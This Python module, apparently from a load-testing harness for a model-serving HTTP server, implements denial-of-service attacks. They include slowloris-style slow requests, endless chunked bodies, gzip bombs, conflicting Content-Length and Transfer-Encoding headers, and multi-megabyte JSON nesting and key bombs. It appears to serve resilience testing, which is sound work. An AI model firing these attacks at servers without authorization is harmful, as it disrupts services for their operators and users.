"""The attacks on HTTP/1.1 and on JSON bodies. The docstring of each attack describes the bytes that it sends."""

from __future__ import annotations

import itertools
import json
import time
import zlib
from collections.abc import Callable, Iterator

from loadtest.attacks.attacker import Attacker, repeated
from loadtest.attacks.bombs import gzipped_zeros

_SLOW_CONNECTIONS = 200
_STEP_S = 0.05
_JSON_BYTES = 4 << 20


def dribble(attacker: Attacker, opening: bytes, piece: bytes, *, is_raw: bool = False) -> None:
    """Opens many connections; on each, sends `opening` once and then `piece` again and again."""
    conns = []
    for _ in range(_SLOW_CONNECTIONS):
        if not attacker.is_over and (conn := attacker.connect(is_raw=is_raw)) is not None:
            conn.send([opening], attacker.end_s)
            conns.append(conn)
    while not attacker.is_over and (left := [conn for conn in conns if not conn.closed]):
        for conn in left:
            conn.read()
            conn.send([piece], attacker.end_s)
        time.sleep(_STEP_S)


def slow_head(attacker: Attacker) -> None:
    """Opens 200 connections on which the heads of requests arrive byte by byte (slowloris)."""
    dribble(attacker, attacker.target.head(b"content-length: 10"), b"x")


def slow_body(attacker: Attacker) -> None:
    """Opens 200 connections on which the bodies of requests arrive byte by byte."""
    dribble(attacker, attacker.target.head(b"content-length: 1000000") + b"\r\n{", b" ")


def silent_connections(attacker: Attacker) -> None:
    """Opens 200 connections and sends nothing on them."""
    dribble(attacker, b"", b"")


def byte_chunks(attacker: Attacker) -> None:
    """Sends an endless request body in chunks of 1 byte."""
    conn = attacker.connect()
    if conn is not None:
        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n1\r\n{\r\n"], attacker.end_s)
        attacker.flood(repeated(b"1\r\n \r\n"), conn)


def chunk_extensions(attacker: Attacker) -> None:
    """Sends a request body in chunks of 1 byte, each with a chunk extension of 4 KB."""
    conn = attacker.connect()
    if conn is not None:
        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n"], attacker.end_s)
        attacker.flood(repeated(b"1;" + b"x" * 4096 + b"\r\n \r\n"), conn)


def chunk_trailers(attacker: Attacker) -> None:
    """Sends endless trailer fields after a request body."""
    conn = attacker.connect()
    if conn is not None:
        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n1\r\n{\r\n0\r\n"], attacker.end_s)
        attacker.flood(repeated(b"x: " + b"y" * 4000 + b"\r\n"), conn)


def pipelining(attacker: Attacker) -> None:
    """Sends small requests, pipelined without waiting for answers; the client reads the answers."""
    attacker.flood(repeated(attacker.target.whole()))


def pipelining_unread(attacker: Attacker) -> None:
    """Sends small requests, pipelined without waiting for answers; the client reads no answers."""
    attacker.flood(repeated(attacker.target.whole()), attacker.connect(receive_bytes=4096), reads=False)


def empty_lines(attacker: Attacker) -> None:
    """Sends empty lines in place of a request."""
    attacker.flood(repeated(b"\r\n"))


def huge_head(attacker: Attacker) -> None:
    """Sends a request with one header field that never ends."""
    conn = attacker.connect()
    if conn is not None:
        conn.send([attacker.target.head() + b"x: "], attacker.end_s)
        attacker.flood(repeated(b"y" * 4096), conn)


def many_headers(attacker: Attacker) -> None:
    """Sends requests with 20,000 header fields each."""
    attacker.again_and_again(attacker.target.head(*[b"a: b"] * 20_000, b"content-length: 0") + b"\r\n")


def huge_path(attacker: Attacker) -> None:
    """Sends requests with a path of 200 KB."""
    attacker.again_and_again(b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nhost: x\r\n\r\n")


def _asked_again(head: Callable[[Attacker], bytes], what: str) -> Callable[[Attacker], None]:
    def attack(attacker: Attacker) -> None:
        attacker.again_and_again(head(attacker) + b"\r\n" + attacker.target.body)

    attack.__doc__ = what
    return attack


def _length(attacker: Attacker) -> bytes:
    return b"content-length: %d" % len(attacker.target.body)


no_host = _asked_again(lambda a: a.target.head(_length(a), host=b""), "Sends requests without Host.")
two_hosts = _asked_again(lambda a: a.target.head(_length(a), b"host: other"), "Sends requests with two Hosts.")
two_lengths = _asked_again(
    lambda a: a.target.head(_length(a), b"content-length: 1"), "Sends requests with two Content-Length headers."
)
length_and_chunks = _asked_again(
    lambda a: a.target.head(_length(a), b"transfer-encoding: chunked"),
    "Sends requests with a Content-Length and a Transfer-Encoding.",
)
odd_length = _asked_again(
    lambda a: a.target.head(b"content-length: +5"), "Sends requests whose Content-Length is not a number."
)
space_in_name = _asked_again(
    lambda a: a.target.head(_length(a), b"x : y"), "Sends requests with a space before a header's colon."
)
bad_chunk = _asked_again(
    lambda a: a.target.head(b"transfer-encoding: chunked") + b"\r\nzz\r\n",
    "Sends requests with a chunk whose size is not a number.",
)


def new_connections(attacker: Attacker) -> None:
    """Opens connections one after the other, and closes each at once, without a request."""
    while not attacker.is_over:
        conn = attacker.connect(is_raw=True)
        if conn is not None:
            conn.end()


def unread_answers(attacker: Attacker) -> None:
    """Sends requests on one connection for answers of megabytes, and reads no byte of the answers."""
    request = attacker.target.whole(attacker.target.large_body)
    attacker.flood(repeated(request, 1), attacker.connect(receive_bytes=4096), reads=False)


def _bodies(attacker: Attacker, body: bytes, *lines: bytes) -> None:
    """Posts a body again and again on one connection; each request waits for the previous answer."""
    request = attacker.target.whole(body, *lines)
    conn = attacker.connect()
    while not attacker.is_over:
        if conn is None or conn.closed:
            conn = attacker.connect()
            continue
        answered = conn.statuses.total()
        conn.send([request], attacker.end_s)
        conn.answered(answered + 1, attacker.end_s)


def gzip_bomb(attacker: Attacker) -> None:
    """Sends compressed bodies of 60 KB that inflate to 60 MB."""
    _bodies(attacker, gzipped_zeros(60), b"content-encoding: gzip")


def gzip_members(attacker: Attacker) -> None:
    """Sends compressed bodies that consist of 50,000 empty gzip members."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    _bodies(attacker, packer.flush() * 50_000, b"content-encoding: gzip")


def _json(pieces: Iterator[bytes]) -> bytes:
    parts, size = [], 0
    for piece in pieces:
        parts.append(piece)
        size += len(piece)
        if size > _JSON_BYTES:
            break
    return b"".join(parts)


def json_keys(attacker: Attacker) -> None:
    """Sends a JSON body of 4 MB that has a key every 8 bytes."""
    keys = _json(b'"%06x":1,' % number for number in range(1 << 30))
    _bodies(attacker, b'{"features": {' + keys + b'"z": 1}}')


def json_depth(attacker: Attacker) -> None:
    """Sends a JSON body that consists of 4 MB of opening brackets."""
    _bodies(attacker, b'{"features": {"user": ' + b"[" * _JSON_BYTES)


def json_digits(attacker: Attacker) -> None:
    """Sends a JSON body with one number of 4 MB."""
    _bodies(attacker, b'{"features": {"user": [' + b"9" * _JSON_BYTES + b"]}}")


def json_tokens(attacker: Attacker) -> None:
    """Sends a JSON body that holds 4 MB of empty lists."""
    _bodies(attacker, b'{"features": {"user": [' + b"[]," * (_JSON_BYTES // 3) + b"[]]}}")


def json_strings(attacker: Attacker) -> None:
    """Sends a JSON body with one string of 4 MB of escape sequences."""
    _bodies(attacker, b'{"features": {"user": ["' + b"\\u0041" * (_JSON_BYTES // 6) + b'"]}}')


def _feature(attacker: Attacker) -> str:
    """Returns the name of the feature that the victim looks up, which is also the name of its table."""
    return str(next(iter(json.loads(attacker.target.body)["features"])))


def expectations(attacker: Attacker) -> None:
    """Announces bodies of 60 MB on 200 connections, asks for the answer 100 Continue, and never sends the bodies."""
    dribble(attacker, attacker.target.head(b"expect: 100-continue", b"content-length: 60000000") + b"\r\n", b"")


def unknown_paths(attacker: Attacker) -> None:
    """Sends pipelined GET requests, each for another path that the server does not have."""
    paths = (b"GET /p%d HTTP/1.1\r\nhost: x\r\n\r\n" % number for number in itertools.count())
    attacker.flood(iter(lambda: b"".join(itertools.islice(paths, 1000)), b""))


_HALF_HEADS, _HALF_HEAD_BYTES = 500, 60_000


def half_heads(attacker: Attacker) -> None:
    """Sends 60 KB of a request's head on each of 500 connections, and never the end of the head."""
    begun = attacker.target.head() + b"x: " + b"y" * _HALF_HEAD_BYTES
    conns = [conn for _ in range(_HALF_HEADS) if not attacker.is_over and (conn := attacker.connect())]
    for conn in conns:
        conn.send([begun], attacker.end_s)
    attacker.until_closed(conns)


def names(attacker: Attacker) -> None:
    """Sends requests that each have another model name, table name, host, request id, trace and user agent."""
    numbers = itertools.count()
    paths = itertools.cycle(
        (
            b"/v1/models/%s:lookup",
            b"/v1/models/%s/tables/%s:rows",
            b"/v2/models/%s/infer?%s=%s",
            b"/v1/models/%s",
        )
    )
    body = attacker.target.body

    def request() -> bytes:
        name = b"n%d" % next(numbers)
        path = next(paths).replace(b"%s", name)
        lines = b"x-request-id: %s\r\ntraceparent: 00-%032x-%016x-01\r\nuser-agent: %s\r\n"
        head = b"POST %s HTTP/1.1\r\nhost: %s\r\n" % (path, name)
        return (
            head + lines % (name, next(numbers), next(numbers), name) + b"content-length: %d\r\n\r\n" % len(body) + body
        )

    attacker.flood(iter(lambda: b"".join(request() for _ in range(200)), b""))


def metrics(attacker: Attacker) -> None:
    """Sends pipelined GET requests for the server's metrics."""
    attacker.flood(repeated(b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n"))


def searches(attacker: Attacker) -> None:
    """Sends searches of 256 rows for the 1000 nearest rows of each row."""
    document = json.dumps({"ids": list(range(256)), "k": 1000}).encode()
    path = attacker.target.path.rpartition(":")[0] + f"/tables/{_feature(attacker)}:neighbors"
    head = attacker.target.head(b"content-length: %d" % len(document))
    attacker.flood(repeated(head.replace(attacker.target.path.encode(), path.encode()) + b"\r\n" + document, 1))


def one_row(attacker: Attacker) -> None:
    """Sends lookups that read one row a million times; the answers would have hundreds of megabytes."""
    _bodies(attacker, json.dumps({"features": {_feature(attacker): [1] * 1_000_000}}).encode())


def json_surrogates(attacker: Attacker) -> None:
    """Sends a JSON body with one string of 4 MB of surrogate pairs, which an error text may quote."""
    pairs = b"\\ud83d\\ude00" * (_JSON_BYTES // 12)
    _bodies(attacker, b'{"features": {"%s": ["%s"]}}' % (_feature(attacker).encode(), pairs))
